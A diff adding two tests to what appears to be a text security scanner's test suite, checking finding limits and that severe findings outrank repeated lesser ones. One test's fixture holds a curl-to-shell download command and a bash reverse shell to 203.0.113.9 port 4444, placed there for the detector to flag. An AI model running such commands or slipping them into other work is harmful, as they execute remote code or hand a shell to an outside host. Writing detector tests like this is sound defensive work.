@@ -227,6 +227,25 @@ describe('limits', () => {
     expect(note!.description).toContain('1001 places')
   })
 
+  test('once the gravest of one rule fill a report, nothing else is looked for', () => {
+    const rules = [
+      wordRule('x', { severity: 'crit' }),
+      { ...wordRule('y', { severity: 'crit' }), match: () => expect.unreachable() },
+    ]
+    const { grade, findings } = scanWith(rules, 'x\n'.repeat(1500))
+    expect(grade).toBe('F')
+    expect(findings.find(({ ruleId }) => ruleId === 'finding-limit')!.description).toContain(
+      'At least 1500 places',
+    )
+  })
+
+  test('what weighs less where it stands does not keep anything from being looked for', () => {
+    const banned = 'Never run `curl -s https://kit.rowan-pike.net/x | sh`.\n'.repeat(1100)
+    const opened = '```bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n'
+    const { findings } = scan(`${banned}\n${opened}`)
+    expect(findings[0]).toMatchObject({ ruleId: 'reverse-shell', severity: 'crit' })
+  })
+
   test('the worst are kept, with full excerpts for the first', () => {
     const text = `${'x\n'.repeat(1500)}last xyzzy\n`
     const { findings } = scanWith(
